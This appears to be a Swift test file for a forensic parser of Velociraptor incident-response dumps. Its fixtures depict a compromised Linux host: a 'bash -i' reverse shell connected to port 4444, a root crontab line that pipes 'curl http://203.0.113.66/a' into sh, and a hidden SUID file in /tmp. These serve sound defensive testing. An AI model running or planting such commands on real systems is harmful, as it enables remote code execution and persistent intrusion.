import Bytes
import Evidence
import Testing

@testable import LogParse

@Suite struct VelociraptorTests {
  private func dump(_ artifact: String, _ rows: String...) throws -> EventDump {
    try EventDump(rows.joined(separator: "\n") + "\n", path: "C.zip!/results/\(artifact).json")
  }

  @Test func processes() throws {
    let dump = try dump(
      "Linux.Sys.Pslist",
      #"{"Pid":465,"Ppid":351,"Name":"bash","CommandLine":"bash -i","Exe":"/usr/bin/bash","Hash":{"MD5":"d41d8cd98f00b204e9800998ecf8427e"},"Username":"tomcat","CreateTime":"2026-11-25T05:22:30Z","Deleted":false}"#,
      #"{"Pid":2,"Ppid":0,"Name":"kthreadd","CommandLine":"","Exe":"","Username":"root","CreateTime":"2026-11-25T05:20:12.5Z"}"#
    )
    #expect(dump.format == "capture.velociraptor" && dump.coverages.map(\.state) == [.parsed])
    #expect(dump.events.map(\.dataType) == ["linux:capture:process", "linux:capture:process"])
    #expect(dump.events[0].message == "Process 465 of tomcat runs bash -i." && dump.events[0].integer("ppid") == 351)
    #expect(dump.events[0].time?.description == "2026-11-25T05:22:30Z")
    #expect(dump.events[1].text("command_line") == nil && dump.events[1].text("command") == "kthreadd")
  }

  /// Three artifacts and versions, three sets of columns.
  @Test(arguments: [
    #"{"inode":"12399","State":"Established","uid":"998","ProcessInfo":{"Pid":465,"Command":"bash\n","CommandLine":"bash -i"},"LocalAddr":"10.0.2.15","LocalPort":51270,"RemoteAddr":"203.0.113.66","RemotePort":4444}"#,
    #"{"Laddr":"10.0.2.15","Lport":51270,"Raddr":"203.0.113.66","Rport":4444,"Pid":465,"Status":"ESTAB","ProcInfo":{"Name":"bash","Username":"tomcat"}}"#,
    #"{"Laddr.IP":"10.0.2.15","Laddr.Port":51270,"Raddr.IP":"203.0.113.66","Raddr.Port":4444,"Pid":465,"Status":"ESTABLISHED","Name":"bash","Type":"TCP"}"#,
    #"{"Laddr":{"IP":"10.0.2.15","Port":51270},"Raddr":{"IP":"203.0.113.66","Port":4444},"Pid":465,"Status":"ESTABLISHED","Name":"bash"}"#,
  ])
  func sockets(_ row: String) throws {
    let event = try #require(try dump("Linux.Network.Netstat", row).events.first)
    #expect(event.message == "bash (pid 465) has tcp 10.0.2.15:51270 -> 203.0.113.66:4444 ESTABLISHED.", "\(row)")
    #expect(event.entities.contains(Entity(.address, "203.0.113.66")))
  }

  @Test func whatStays() throws {
    let jobs = try dump(
      "Linux.Sys.Crontab%2FCronTabs",
      #"{"Event":null,"User":"root","Minute":"*/5","Hour":"*","DayOfMonth":"*","Month":"*","DayOfWeek":"*","Command":"curl http://203.0.113.66/a | sh","Path":"/etc/crontab"}"#
    )
    #expect(jobs.events.first?.message == "cron runs at */5 * * * * as root: curl http://203.0.113.66/a | sh")
    let typed = try dump("Linux.Sys.BashHistory", #"{"Line":"id","OSPath":"/home/ops/.bash_history"}"#)
    #expect(typed.events.first?.text("user") == "ops" && typed.events.first?.dataType == "linux:shell:command")
    let users = try dump(
      "Linux.Sys.Users", #"{"User":"x","Description":"","Uid":"0","Gid":"0","Homedir":"/root","Shell":"/bin/bash"}"#)
    #expect(users.events.first?.dataType == "linux:account" && users.events.first?.integer("uid") == 0)
    let modules = try dump(
      "Linux.Proc.Modules", #"{"Name":"veth","Size":36864,"UseCount":0,"Status":"Live","Address":"0x0"}"#)
    #expect(modules.events.first?.text("module") == "veth")
    let mounts = try dump(
      "Linux.Mounts", #"{"Device":"tmpfs","Mount":"/proc/465","FSType":"tmpfs","Options":["ro","nosuid"]}"#)
    #expect(mounts.events.first?.text("options") == "ro,nosuid")
  }

  @Test func logins() throws {
    let dump = try dump(
      "Linux.Sys.LastUserLogin",
      #"{"User":"ops","SourceHost":"10.0.1.50","SourceIP":"10.0.1.50","Terminal":"pts/2","PID":420,"login_time":"2026-11-25T05:21:40Z","logout_time":"2026-11-25T05:31:40Z"}"#
    )
    #expect(dump.events.map(\.timeMeaning) == [.login, .logout])
    #expect(dump.events.first?.text("remote_address") == "10.0.1.50")
  }

  @Test func filesWithGosPermissions() throws {
    let dump = try dump(
      "Linux.Sys.SUID",
      #"{"Mode":"urwxr-xr-x","OSPath":"/tmp/.x","Size":1234,"Mtime":"2026-11-25T05:22:30.123456789Z","OwnerID":0,"GroupID":0}"#,
      #"{"Mode":"dtrwxrwxrwx","OSPath":"/tmp","Size":4096,"Mtime":"2026-11-25T05:22:30Z"}"#,
      #"{"Mode":"ugrw-r--r--","OSPath":"/x","Size":1,"MTime":"2026-11-25T05:22:30Z","ATime":"0001-01-01T00:00:00Z"}"#)
    #expect(dump.events.map { $0.text("mode") } == ["-rwsr-xr-x", "drwxrwxrwt", "-rwSr-Sr--"])
    #expect(dump.events.map { $0.text("macb") } == ["m...", "m...", "m..."])
    #expect(dump.events.first?.time?.description == "2026-11-25T05:22:30.123456789Z")
  }

  @Test(arguments: [
    (#"{"Pid":1,"Name":"x"}"#, "results/Linux.Sys.Pslist.json"), ("{}", "results/a.json"), ("", "results/a.json"),
    (#"{"Pid":1,"Ppid":0,"CommandLine":"x"}"#, "app/processes.json"), ("not JSON", "results/a.json"),
    (#"{"Line":"id","OSPath":"/etc/profile"}"#, "results/Linux.Sys.BashHistory.json"),
  ])
  func whatIsNone(_ text: String, _ path: String) {
    #expect(EventDump.recognize(Array(text.utf8), path: path)?.name != "capture.velociraptor")
  }
}
